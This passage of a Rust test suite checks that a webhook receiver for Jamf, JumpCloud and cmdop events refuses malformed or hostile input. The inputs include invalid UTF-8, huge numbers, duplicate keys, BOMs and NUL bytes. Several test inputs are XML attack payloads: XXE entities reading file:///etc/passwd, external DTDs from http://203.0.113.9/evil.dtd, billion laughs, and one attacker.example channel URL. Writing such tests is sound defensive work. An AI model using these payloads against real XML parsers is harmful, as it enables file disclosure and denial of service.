    let xxe = "<?xml version=\"1.0\"?><!DOCTYPE JSSEvent [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><JSSEvent><webhook><webhookEvent>ComputerCheckIn</webhookEvent></webhook><event><computer><deviceName>&xxe;</deviceName></computer></event></JSSEvent>";
    let parameter = "<!DOCTYPE JSSEvent [<!ENTITY % remote SYSTEM \"http://203.0.113.9/evil.dtd\"> %remote;]><JSSEvent/>";
    let external_dtd = "<!DOCTYPE JSSEvent SYSTEM \"http://203.0.113.9/jamf.dtd\"><JSSEvent/>";
    let doctype_last = format!("{JAMF_XML}<!DOCTYPE JSSEvent>");
    check(&[
        case("billion laughs", Entry::JamfXml, BILLION_LAUGHS, "Err(DocType: XML document type declarations are not accepted (line 2, column 1))"),
        case("external entity (file:///etc/passwd)", Entry::JamfXml, xxe, "Err(DocType: XML document type declarations are not accepted (line 1, column 22))"),
        case("external parameter entity", Entry::JamfXml, parameter, "Err(DocType: XML document type declarations are not accepted (line 1, column 1))"),
        case("external DTD", Entry::JamfXml, external_dtd, "Err(DocType: XML document type declarations are not accepted (line 1, column 1))"),
        case("DOCTYPE after the root element", Entry::JamfXml, doctype_last, "Err(DocType: XML document type declarations are not accepted (line 1, column 490))"),
        case("an entity used without a DOCTYPE", Entry::JamfXml, jamf_xml("mbp-akiko", b"&lol9;"), "Err(XmlStructure: malformed XML at `/JSSEvent/event/computer/deviceName` (line 1, column 339): unknown entity `&lol9;`)"),
        case("an external entity used without a DOCTYPE", Entry::JamfXml, jamf_xml("mbp-akiko", b"&xxe;"), "Err(XmlStructure: malformed XML at `/JSSEvent/event/computer/deviceName` (line 1, column 339): unknown entity `&xxe;`)"),
        case("the five predefined entities and a character reference", Entry::JamfXml, jamf_xml("mbp-akiko", b"&lt;&gt;&amp;&apos;&quot;&#233;"), r#"Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842 deviceName=Some("<>&'\"é"))"#),
        case("character reference past U+10FFFF", Entry::JamfXml, jamf_xml("mbp-akiko", b"&#x110000;"), "Err(XmlStructure: malformed XML at `/JSSEvent/event/computer/deviceName` (line 1, column 339): invalid character reference)"),
        case("character reference of 10,000 digits", Entry::JamfXml, jamf_xml("mbp-akiko", format!("&#{};", "9".repeat(10_000)).as_bytes()), "Err(XmlStructure: malformed XML at `/JSSEvent/event/computer/deviceName` (line 1, column 339): invalid character reference)"),
        case("billion laughs, by the first byte", Entry::JamfSlice, BILLION_LAUGHS, "Err(DocType: XML document type declarations are not accepted (line 2, column 1))"),
        case("billion laughs, application/xml", Entry::JamfBody(Some("application/xml")), BILLION_LAUGHS, "Err(DocType: XML document type declarations are not accepted (line 2, column 1))"),
        case("billion laughs, no content type", Entry::JamfBody(None), BILLION_LAUGHS, "Err(DocType: XML document type declarations are not accepted (line 2, column 1))"),
        case("billion laughs read as JSON", Entry::JamfJson, BILLION_LAUGHS, "Err(Json: invalid JSON at `$` (line 1, column 1): expected value)"),
        case("billion laughs", Entry::Alert, BILLION_LAUGHS, "Err(Json: invalid alert JSON at `$` (line 1, column 1): expected value)"),
        case("billion laughs", Entry::Flatten, BILLION_LAUGHS, "Err(Json: invalid trigger body JSON at `$` (line 1, column 1): expected value)"),
        case("billion laughs", Entry::TriggerResponse, BILLION_LAUGHS, "Err(Json: invalid trigger response JSON at `$` (line 1, column 1): expected value)"),
        case("billion laughs", Entry::Channel, BILLION_LAUGHS, "Err(Json: invalid channel settings JSON at `$` (line 1, column 1): expected value)"),
        case("billion laughs", Entry::CmdopEvent, BILLION_LAUGHS, "Err(Json: cannot parse cmdop event: invalid JSON at `$` (line 1, column 1): expected value)"),
        case("billion laughs, text/xml", Entry::Receive(Source::Jamf), BILLION_LAUGHS, "Err(400 Invalid/Jamf::DocType: jamf body rejected (line 2, column 1): XML document type declarations are refused)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .header("content-type", "text/xml; charset=UTF-8"),
        case("external entity, no content type", Entry::Receive(Source::Jamf), xxe, "Err(400 Invalid/Jamf::DocType: jamf body rejected (line 1, column 22): XML document type declarations are refused)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS)),
        case("billion laughs with Jamf credentials", Entry::ReceiveAny, BILLION_LAUGHS, "Err(400 Invalid/Jamf::DocType: jamf body rejected (line 2, column 1): XML document type declarations are refused)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS)),
        case("billion laughs, application/json", Entry::Receive(Source::Jumpcloud), BILLION_LAUGHS, "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
        case("billion laughs, signed", Entry::Receive(Source::Cmdop), BILLION_LAUGHS, "Err(400 Invalid/Cmdop::Json: cmdop body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Cmdop),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 4. Invalid UTF-8, at every kind of position and of every kind.

/// The invalid sequences: what each one is.
const BAD_UTF8: [(&str, &[u8]); 6] = [
    ("a lone continuation byte", b"\x80"),
    ("an overlong encoding of `/`", b"\xC0\xAF"),
    ("an encoded UTF-16 surrogate", b"\xED\xA0\x80"),
    ("a code point past U+10FFFF", b"\xF4\x90\x80\x80"),
    ("a byte never in UTF-8", b"\xFF"),
    ("a sequence cut short", b"\xE2\x82"),
];

#[test]
fn invalid_utf8_is_refused_where_it_is() {
    let mut cases = Vec::new();
    // Every kind, inside a string value, for every entry point: the same answer whatever the
    // kind, since each is refused at its first byte.
    for (what, bytes) in BAD_UTF8 {
        let in_value =
            |template: &str, at: &str| replace(template, at, &[at.as_bytes(), bytes].concat());
        let json = |document: &str, path: &str, column: usize| {
            format!(
                "Err(Json: invalid {document} JSON at `{path}` (line 1, column {column}): invalid unicode code point)"
            )
        };
        cases.extend([
            case(format!("{what} in a string"), Entry::JamfJson, in_value(JAMF, "mbp-akiko"), "Err(InvalidUtf8: invalid UTF-8 at byte 134 (line 1, column 135))"),
            case(format!("{what} in text"), Entry::JamfXml, in_value(JAMF_XML, "mbp-akiko"), "Err(InvalidUtf8: invalid UTF-8 at byte 347 (line 1, column 348))"),
            case(format!("{what} in a string"), Entry::Alert, in_value(ALERT, "Critical"), json("alert", "$.priority", 112)),
            case(format!("{what} in a string"), Entry::Flatten, in_value(TRIGGER, "203.0.113.7"), json("trigger body", "$.srcip", 22)),
            case(format!("{what} in a string"), Entry::TriggerResponse, in_value(RESPONSE, "Flush"), json("trigger response", "$.triggered[1]", 48)),
            case(format!("{what} in a string"), Entry::Channel, in_value(CHANNEL, "SOC"), json("channel settings", "$.name", 13)),
            case(format!("{what} in a string"), Entry::CmdopEvent, in_value(CMDOP, "build-runner-04"), "Err(Json: cannot parse cmdop event: invalid JSON at `$.data.machine_name` (line 1, column 152): invalid unicode code point)"),
        ]);
    }
    let bom: &[u8] = b"\xEF\xBB\xBF";
    // Every kind of position, one kind of byte.
    cases.extend([
        case("first byte", Entry::JamfJson, [b"\x80", JAMF.as_bytes()].concat(), "Err(InvalidUtf8: invalid UTF-8 at byte 0 (line 1, column 1))"),
        case("first byte after a BOM", Entry::JamfJson, [bom, b"\x80", JAMF.as_bytes()].concat(), "Err(InvalidUtf8: invalid UTF-8 at byte 0 (line 1, column 1))"),
        case("between tokens", Entry::JamfJson, jamf("\"trigger\"", b"\x80\"trigger\""), "Err(InvalidUtf8: invalid UTF-8 at byte 212 (line 1, column 213))"),
        case("in a member name", Entry::JamfJson, jamf("\"trigger\"", b"\"trig\x80ger\""), "Err(InvalidUtf8: invalid UTF-8 at byte 217 (line 1, column 218))"),
        case("in a number", Entry::JamfJson, jamf("1842", b"18\x8042"), "Err(InvalidUtf8: invalid UTF-8 at byte 32 (line 1, column 33))"),
        case("in the header", Entry::JamfJson, jamf("Fleet events", b"Fleet\x80events"), "Err(InvalidUtf8: invalid UTF-8 at byte 297 (line 1, column 298))"),
        case("cut short at the very end", Entry::JamfJson, [JAMF.as_bytes(), b"\xE2\x82"].concat(), "Err(InvalidUtf8: invalid UTF-8 at byte 379 (line 1, column 380))"),
        case("on line 3", Entry::JamfJson, jamf("\"trigger\"", b"\n\n  \"trig\x80ger\""), "Err(InvalidUtf8: invalid UTF-8 at byte 221 (line 3, column 8))"),
        case("first byte", Entry::JamfXml, [b"\x80", JAMF_XML.as_bytes()].concat(), "Err(InvalidUtf8: invalid UTF-8 at byte 0 (line 1, column 1))"),
        case("in an element name", Entry::JamfXml, jamf_xml("<trigger>", b"<trig\x80ger>"), "Err(InvalidUtf8: invalid UTF-8 at byte 409 (line 1, column 410))"),
        case("in an attribute", Entry::JamfXml, jamf_xml("<JSSEvent>", b"<JSSEvent note=\"\x80\">"), "Err(InvalidUtf8: invalid UTF-8 at byte 54 (line 1, column 55))"),
        case("in a comment", Entry::JamfXml, jamf_xml("<event>", b"<event><!-- \x80 -->"), "Err(InvalidUtf8: invalid UTF-8 at byte 212 (line 1, column 213))"),
        case("in CDATA", Entry::JamfXml, jamf_xml("CLIENT_CHECKIN", b"<![CDATA[CLIENT\xC0\xAF]]>"), "Err(InvalidUtf8: invalid UTF-8 at byte 428 (line 1, column 429))"),
        case("in a processing instruction", Entry::JamfXml, jamf_xml("<JSSEvent>", b"<?jamf \x80?><JSSEvent>"), "Err(InvalidUtf8: invalid UTF-8 at byte 45 (line 1, column 46))"),
        case("cut short at the very end", Entry::JamfXml, [JAMF_XML.as_bytes(), b"\xE2\x82"].concat(), "Err(InvalidUtf8: invalid UTF-8 at byte 489 (line 1, column 490))"),
        case("first byte", Entry::JamfSlice, [b"\x80", JAMF.as_bytes()].concat(), "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: 0x80))"),
        case("in text, text/xml", Entry::JamfBody(Some("text/xml")), jamf_xml("mbp-akiko", b"mbp\xFF"), "Err(InvalidUtf8: invalid UTF-8 at byte 341 (line 1, column 342))"),
        case("first byte", Entry::Alert, [b"\x80", ALERT.as_bytes()].concat(), "Err(Json: invalid alert JSON at `$` (line 1, column 1): expected value)"),
        case("between tokens", Entry::Alert, replace(ALERT, "\"priority\"", b"\x80\"priority\""), "Err(Json: invalid alert JSON at `$` (line 1, column 92): key must be a string)"),
        case("in a member name", Entry::Alert, replace(ALERT, "\"priority\"", b"\"prio\x80rity\""), r#"Err(Json: invalid alert JSON at `$["prio�"]` (line 1, column 97): invalid unicode code point)"#),
        case("in a literal", Entry::Alert, replace(ALERT, "\"priority\"", b"\"x\":tr\x80ue,\"priority\""), "Err(Json: invalid alert JSON at `$.x` (line 1, column 98): expected ident)"),
        case("cut short at the very end", Entry::Alert, [ALERT.as_bytes(), b"\xE2\x82"].concat(), "Err(Json: invalid alert JSON at `$` (line 1, column 210): trailing characters)"),
        case("in a member name", Entry::Flatten, replace(TRIGGER, "srcip", b"src\x80ip"), r#"Err(Json: invalid trigger body JSON at `$["src�ip"]` (line 1, column 9): a key is not valid UTF-8)"#),
        case("in a number", Entry::Flatten, replace(TRIGGER, "8443", b"84\x8043"), "Err(Json: invalid trigger body JSON at `$.port` (line 1, column 33): expected `,` or `}`)"),
        case("in a member name", Entry::CmdopEvent, replace(CMDOP, "machine_name", b"machine\x80name"), r#"Err(Json: cannot parse cmdop event: invalid JSON at `$.data["machine�"]` (line 1, column 129): invalid unicode code point)"#),
        case("in a string, signed", Entry::CmdopReceive, replace(CMDOP, "build", b"bu\x80ild"), "Err(Json: cannot parse cmdop event: invalid JSON at `$.data.machine_name` (line 1, column 139): invalid unicode code point)")
            .signed_as(Source::Cmdop),
        case("in a string", Entry::Receive(Source::Jamf), jamf("mbp-akiko", b"mbp\x80"), "Err(400 Invalid/Jamf::InvalidUtf8: jamf body rejected (line 1, column 129): not UTF-8)")
            .signed_as(Source::Jamf),
        case("in text, text/xml", Entry::Receive(Source::Jamf), jamf_xml("mbp-akiko", b"mbp\x80"), "Err(400 Invalid/Jamf::InvalidUtf8: jamf body rejected (line 1, column 342): not UTF-8)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .header("content-type", "text/xml"),
        case("in a string", Entry::Receive(Source::Jumpcloud), replace(ALERT, "Critical", b"Crit\x80"), "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$.priority` (line 1, column 108): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
        case("in a string, signed", Entry::Receive(Source::Cmdop), replace(CMDOP, "build", b"bu\x80ild"), "Err(400 Invalid/Cmdop::Json: cmdop body rejected at `$.data.machine_name` (line 1, column 139): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Cmdop),
        case("first byte, with JumpCloud credentials", Entry::ReceiveAny, [b"\x80", ALERT.as_bytes()].concat(), "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
    ]);
    check(&cases);
}

// ---------------------------------------------------------------------------------------------
// 5. Overlong numbers.

#[test]
fn overlong_numbers_get_their_documented_answer() {
    let nines = "9".repeat(10_000);
    let digits = nines.as_bytes();
    let member = |template: &str, at: &str, value: &[u8]| {
        replace(
            template,
            at,
            &[b"\"x\":", value, b",", at.as_bytes()].concat(),
        )
    };
    check(&[
        case("jssID of 10,000 digits", Entry::JamfJson, jamf("1842", digits), "Err(Json: invalid JSON at `$.event.computer.jssID` (line 1, column 10030): number out of range)"),
        case("jssID past i64", Entry::JamfJson, jamf("1842", b"9223372036854775808"), "Err(Json: invalid JSON at `$.event.computer.jssID` (line 1, column 49): invalid value: integer `9223372036854775808`, expected an integer that fits in i64)"),
        case("jssID with an exponent of 10,000 digits", Entry::JamfJson, jamf("1842", &[b"1e", digits].concat()), "Err(Json: invalid JSON at `$.event.computer.jssID` (line 1, column 42): number out of range)"),
        case("eventTimestamp of 10,000 digits", Entry::JamfJson, jamf("1712830021877", digits), "Err(Json: invalid JSON at `$.webhook.eventTimestamp` (line 1, column 10364): number out of range)"),
        case("eventTimestamp 1e400", Entry::JamfJson, jamf("1712830021877", b"1e400"), "Err(Json: invalid JSON at `$.webhook.eventTimestamp` (line 1, column 369): number out of range)"),
        case("undocumented member of 10,000 digits", Entry::JamfJson, member(JAMF, "\"trigger\"", digits), "Err(Json: invalid JSON at `$.event.x` (line 1, column 10216): number out of range)"),
        case("jssID of 10,000 digits", Entry::JamfXml, jamf_xml("1842", digits), format!(r#"Err(XmlValue: invalid XML value at `/JSSEvent/event/computer/jssID` (line 1, column 218): invalid value: string "{nines}", expected an integer)"#)),
        case("eventTimestamp of 10,000 digits", Entry::JamfXml, jamf_xml("1712830021877", digits), format!(r#"Err(XmlValue: invalid XML value at `/JSSEvent/webhook/eventTimestamp` (line 1, column 145): invalid value: string "{nines}", expected epoch milliseconds (or seconds) as an integer)"#)),
        case("undocumented member of 10,000 digits", Entry::Alert, member(ALERT, "\"priority\"", digits), "Err(Json: invalid alert JSON at `$.x` (line 1, column 10095): number out of range)"),
        case("undocumented member with a 10,000-digit exponent", Entry::Alert, member(ALERT, "\"priority\"", &[b"1e-", digits].concat()), "Ok(alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)"),
        case("10,000 digits: Infinity, as JSON.parse", Entry::Flatten, replace(TRIGGER, "8443", digits), "Ok(srcip=203.0.113.7, port=Infinity, host=web-03.acme.example)"),
        case("10,000 fraction digits", Entry::Flatten, replace(TRIGGER, "8443", &[b"0.", digits].concat()), "Ok(srcip=203.0.113.7, port=1, host=web-03.acme.example)"),
        case("exponent of 10,000 digits", Entry::Flatten, replace(TRIGGER, "8443", &[b"1e", digits].concat()), "Ok(srcip=203.0.113.7, port=Infinity, host=web-03.acme.example)"),
        case("negative exponent of 10,000 digits", Entry::Flatten, replace(TRIGGER, "8443", &[b"1e-", digits].concat()), "Ok(srcip=203.0.113.7, port=0, host=web-03.acme.example)"),
        case("a number of 10,000 digits for a name", Entry::TriggerResponse, replace(RESPONSE, "\"Flush CDN cache\"", digits), "Err(Json: invalid trigger response JSON at `$.triggered[1]` (line 1, column 10041): number out of range)"),
        case("enabled of 10,000 digits", Entry::Channel, replace(CHANNEL, "true", digits), "Err(Json: invalid channel settings JSON at `$.enabled` (line 1, column 10102): number out of range)"),
        case("exit code of 10,000 digits", Entry::CmdopEvent, format!(r#"{{"id":"evt_01JD4RB7M2QX","type":"command.failed","timestamp":"2026-11-20T09:12:05Z","data":{{"command_id":"cmd_01JD4RA3","exit_code":{}}}}}"#, "9".repeat(10_000)), "Err(Json: cannot parse cmdop event: invalid JSON at `$.data.exit_code` (line 1, column 10132): number out of range)"),
        case("duration of 10,000 digits (kept as sent)", Entry::CmdopEvent, format!(r#"{{"id":"evt_01JD4RB7M2QX","type":"command.failed","timestamp":"2026-11-20T09:12:05Z","data":{{"command_id":"cmd_01JD4RA3","duration":{}}}}}"#, "9".repeat(10_000)), "Err(Json: cannot parse cmdop event: invalid JSON at `$.data.duration` (line 1, column 10131): number out of range)"),
        case("undocumented member of 10,000 digits", Entry::Receive(Source::Jumpcloud), member(ALERT, "\"priority\"", digits), "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$.x` (line 1, column 10095): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 6. Duplicate keys.

#[test]
fn duplicate_keys_get_their_documented_answer() {
    check(&[
        case("`webhook` twice", Entry::JamfJson, jamf("\"webhook\"", br#""webhook":{"webhookEvent":"JSSStartup"},"webhook""#), "Err(Json: invalid JSON at `$.webhook` (line 1, column 315): duplicate field `webhook`)"),
        case("`event` twice", Entry::JamfJson, jamf("{\"event\"", br#"{"event":{},"event""#), "Err(Json: invalid JSON at `$.event` (line 1, column 19): duplicate field `event`)"),
        case("`jssID` twice", Entry::JamfJson, jamf("\"jssID\":1842", br#""jssID":1842,"jssID":1843"#), "Err(Json: invalid JSON at `$.event.computer.jssID` (line 1, column 42): duplicate field `jssID`)"),
        case("`webhookEvent` twice", Entry::JamfJson, jamf("\"webhookEvent\"", br#""webhookEvent":"JSSStartup","webhookEvent""#), "Err(Json: invalid JSON at `$.webhook.webhookEvent` (line 1, column 356): duplicate field `webhookEvent`)"),
        case("an undocumented member twice", Entry::JamfJson, jamf("\"trigger\"", br#""x":1,"x":2,"trigger""#), "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)"),
        // "A repeated element read into a single-valued field yields the first" (the Jamf
        // crate's XML rules), for text and for numbers, booleans and times alike.
        case("`<deviceName>` twice: the first is read", Entry::JamfXml, jamf_xml("<deviceName>mbp-akiko</deviceName>", b"<deviceName>mbp-akiko</deviceName><deviceName>mbp-x</deviceName>"), "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)"),
        case("`<jssID>` twice: the first is read", Entry::JamfXml, jamf_xml("<jssID>1842</jssID>", b"<jssID>1842</jssID><jssID>1843</jssID>"), "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)"),
        case("`<webhook>` twice: the first is read", Entry::JamfXml, jamf_xml("<event>", b"<webhook><webhookEvent>JSSStartup</webhookEvent></webhook><event>"), "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)"),
        case("`alert_id` twice", Entry::Alert, replace(ALERT, "\"priority\"", br#""alert_id":"6743a0f2c9e77d0001b2c3d5","priority""#), "Err(Json: invalid alert JSON at `$.alert_id` (line 1, column 101): duplicate field `alert_id`)"),
        case("`status` twice", Entry::Alert, replace(ALERT, "\"priority\"", br#""status":"Resolved","priority""#), "Err(Json: invalid alert JSON at `$.status` (line 1, column 141): duplicate field `status`)"),
        case("a key twice: the last value, the first place", Entry::Flatten, replace(TRIGGER, "\"host\"", br#""srcip":"198.51.100.23","host""#), "Ok(srcip=198.51.100.23, port=8443, host=web-03.acme.example)"),
        case("`triggered` twice", Entry::TriggerResponse, replace(RESPONSE, "}", br#","triggered":[]}"#), "Err(Json: invalid trigger response JSON at `$.triggered` (line 1, column 71): duplicate field `triggered`)"),
        case("`url` twice", Entry::Channel, replace(CHANNEL, "\"enabled\"", br#""url":"https://attacker.example/","enabled""#), "Err(Json: invalid channel settings JSON at `$.url` (line 1, column 97): duplicate field `url`)"),
        case("`id` twice", Entry::CmdopEvent, replace(CMDOP, "\"type\"", br#""id":"evt_01JD4R8Q2ZK8","type""#), "Err(Json: cannot parse cmdop event: invalid JSON at `$.id` (line 1, column 29): duplicate field `id`)"),
        case("`type` twice", Entry::CmdopEvent, replace(CMDOP, "\"timestamp\"", br#""type":"machine.online","timestamp""#), "Err(Json: cannot parse cmdop event: invalid JSON at `$.type` (line 1, column 56): duplicate field `type`)"),
        case("`alert_id` twice", Entry::Receive(Source::Jumpcloud), replace(ALERT, "\"priority\"", br#""alert_id":"6743a0f2c9e77d0001b2c3d5","priority""#), "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$.alert_id` (line 1, column 101): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
        case("`webhook` twice, with no type", Entry::ReceiveAny, jamf("\"webhook\"", br#""webhook":{},"webhook""#), "Err(400 Invalid/Jamf::Json: jamf body rejected at `$.webhook` (line 1, column 288): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jamf),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 7. Byte-order marks.

#[test]
fn one_leading_bom_is_skipped_and_any_other_is_refused() {
    let bom = "\u{FEFF}";
    let with = |prefix: &str, body: &str| format!("{prefix}{body}").into_bytes();
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(ALERT.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let expected_value = |document: &str| {
        format!("Err(Json: invalid {document} JSON at `$` (line 1, column 1): expected value)")
    };
    let check_in = "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)";
    let mut cases = Vec::new();
    // One BOM is skipped; a second is content, and no document starts with U+FEFF.
    for (entry, body, one, two) in [
        (Entry::JamfJson, JAMF, check_in.to_owned(), "Err(Json: invalid JSON at `$` (line 1, column 1): expected value)".to_owned()),
        (Entry::JamfXml, JAMF_XML, check_in.to_owned(), "Err(XmlStructure: malformed XML at `/` (line 1, column 1): text outside the root element)".to_owned()),
        (Entry::JamfSlice, JAMF, check_in.to_owned(), "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: 0xef))".to_owned()),
        (Entry::JamfSlice, JAMF_XML, check_in.to_owned(), "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: 0xef))".to_owned()),
        (Entry::Alert, ALERT, "Ok(alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)".to_owned(), expected_value("alert")),
        (Entry::Flatten, TRIGGER, "Ok(srcip=203.0.113.7, port=8443, host=web-03.acme.example)".to_owned(), expected_value("trigger body")),
        (Entry::TriggerResponse, RESPONSE, "Ok(Restart nginx (web tier), Flush CDN cache)".to_owned(), expected_value("trigger response")),
        (Entry::Channel, CHANNEL, "Ok(SOC alerts (PagerDuty bridge) https://hooks.acme.example/jumpcloud/alerts)".to_owned(), expected_value("channel settings")),
        (Entry::CmdopEvent, CMDOP, "Ok(machine.offline evt_01JD4R8Q2ZK7)".to_owned(), "Err(Json: cannot parse cmdop event: invalid JSON at `$` (line 1, column 1): expected value)".to_owned()),
    ] {
        cases.push(case("one BOM", entry, with(bom, body), one));
        cases.push(case("two BOMs", entry, with(&bom.repeat(2), body), two));
    }
    cases.extend([
        case("BOM after blanks", Entry::JamfJson, with(&format!("  {bom}"), JAMF), "Err(Json: invalid JSON at `$` (line 1, column 3): expected value)"),
        case("BOM inside", Entry::JamfJson, jamf("\"trigger\"", "\u{FEFF}\"trigger\"".as_bytes()), "Err(Json: invalid JSON at `$.event` (line 1, column 213): key must be a string)"),
        case("BOM inside", Entry::JamfXml, jamf_xml("<event>", "\u{FEFF}<event>".as_bytes()), "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)"),
        case("BOM inside", Entry::Alert, replace(ALERT, "\"priority\"", "\u{FEFF}\"priority\"".as_bytes()), "Err(Json: invalid alert JSON at `$` (line 1, column 92): key must be a string)"),
        case("UTF-16 with its BOM", Entry::JamfSlice, utf16.clone(), "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: 0xff))"),
        case("UTF-16 with its BOM", Entry::Alert, utf16.clone(), "Err(Json: invalid alert JSON at `$` (line 1, column 1): expected value)"),
        case("UTF-16 with its BOM", Entry::Flatten, utf16.clone(), "Err(Json: invalid trigger body JSON at `$` (line 1, column 1): expected value)"),
        case("one BOM, signed with it", Entry::CmdopReceive, with(bom, CMDOP), "Ok(machine.offline evt_01JD4R8Q2ZK7)")
            .signed_as(Source::Cmdop),
        case("one BOM, signed without it", Entry::CmdopReceive, with(bom, CMDOP), "Err(Signature: signature rejected: signature does not match the body)")
            .header("x-cmdop-signature", signature_of(CMDOP.as_bytes())),
        case("one BOM", Entry::Receive(Source::Jamf), with(bom, JAMF), "Ok(jamf ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)")
            .signed_as(Source::Jamf),
        case("one BOM, XML", Entry::Receive(Source::Jamf), with(bom, JAMF_XML), "Ok(jamf ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842)")
            .header("authorization", basic(JAMF_USER, JAMF_PASS)),
        case("two BOMs", Entry::Receive(Source::Jumpcloud), with(&bom.repeat(2), ALERT), "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
        case("one BOM, signed with it", Entry::Receive(Source::Cmdop), with(bom, CMDOP), "Ok(cmdop machine.offline evt_01JD4R8Q2ZK7)")
            .signed_as(Source::Cmdop),
        case("one BOM, signed", Entry::ReceiveAny, with(bom, CMDOP), "Ok(cmdop machine.offline evt_01JD4R8Q2ZK7)")
            .signed_as(Source::Cmdop),
        case("UTF-16 with its BOM", Entry::Receive(Source::Jumpcloud), utf16, "Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$` (line 1, column 1): invalid JSON or a value of the wrong type)")
            .signed_as(Source::Jumpcloud),
    ]);
    check(&cases);
}

// ---------------------------------------------------------------------------------------------
// 8. NUL bytes.

#[test]
fn nul_bytes_get_their_documented_answer() {
    check(&[
        case("raw NUL in a string", Entry::JamfJson, jamf("mbp-akiko", b"mbp\0akiko"), r#"Err(Json: invalid JSON at `$.event.computer.deviceName` (line 1, column 128): control character (\u0000-\u001F) found while parsing a string)"#),
        case("escaped NUL in a string: kept", Entry::JamfJson, jamf("mbp-akiko", b"mbp\\u0000akiko"), r#"Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842 deviceName=Some("mbp\0akiko"))"#),
        case("NUL between tokens", Entry::JamfJson, jamf("\"trigger\"", b"\0\"trigger\""), "Err(Json: invalid JSON at `$.event` (line 1, column 213): key must be a string)"),
        case("NUL first", Entry::JamfSlice, [b"\0", JAMF.as_bytes()].concat(), "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: 0x00))"),
        case("NUL body", Entry::JamfSlice, vec![0; 1024], "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: 0x00))"),
        case("raw NUL in text", Entry::JamfXml, jamf_xml("mbp-akiko", b"mbp\0akiko"), "Err(XmlStructure: malformed XML at `/` (line 1, column 342): U+0000 is not allowed in XML)"),
        case("NUL in an element name", Entry::JamfXml, jamf_xml("<trigger>", b"<trig\0ger>"), "Err(XmlStructure: malformed XML at `/` (line 1, column 410): U+0000 is not allowed in XML)"),
        case("&#0; in text", Entry::JamfXml, jamf_xml("mbp-akiko", b"mbp&#0;akiko"), "Err(XmlStructure: malformed XML at `/JSSEvent/event/computer/deviceName` (line 1, column 342): invalid character reference)"),
        case("raw NUL in a string", Entry::Alert, replace(ALERT, "Critical", b"Crit\0ical"), r#"Err(Json: invalid alert JSON at `$.priority` (line 1, column 108): control character (\u0000-\u001F) found while parsing a string)"#),
        case("NUL after the document", Entry::Alert, [ALERT.as_bytes(), b"\0"].concat(), "Err(Json: invalid alert JSON at `$` (line 1, column 210): trailing characters)"),
        case("escaped NUL in a value", Entry::Flatten, replace(TRIGGER, "web-03", b"web\\u0000-03"), r#"Err(InvalidValue: value of trigger body key "host" cannot be an environment variable value: it contains a NUL character)"#),
        case("escaped NUL in a key", Entry::Flatten, replace(TRIGGER, "srcip", b"src\\u0000ip"), r#"Err(InvalidName: trigger body key "src\0ip" cannot be an environment variable name: it contains a NUL character)"#),
        case("raw NUL in a value", Entry::Flatten, replace(TRIGGER, "web-03", b"web\0-03"), r#"Err(Json: invalid trigger body JSON at `$.host` (line 1, column 46): control character (\u0000-\u001F) found while parsing a string)"#),
        case("raw NUL in a name", Entry::TriggerResponse, replace(RESPONSE, "Flush", b"Fl\0ush"), r#"Err(Json: invalid trigger response JSON at `$.triggered[1]` (line 1, column 45): control character (\u0000-\u001F) found while parsing a string)"#),
        case("raw NUL in a name", Entry::Channel, replace(CHANNEL, "SOC", b"S\0OC"), r#"Err(Json: invalid channel settings JSON at `$.name` (line 1, column 11): control character (\u0000-\u001F) found while parsing a string)"#),
        case("raw NUL in a string", Entry::CmdopEvent, replace(CMDOP, "build", b"bu\0ild"), r#"Err(Json: cannot parse cmdop event: invalid JSON at `$.data.machine_name` (line 1, column 139): control character (\u0000-\u001F) found while parsing a string)"#),
        case("NUL body, signed", Entry::CmdopReceive, vec![0; 1024], "Err(Json: cannot parse cmdop event: invalid JSON at `$` (line 1, column 1): expected value)")
            .signed_as(Source::Cmdop),
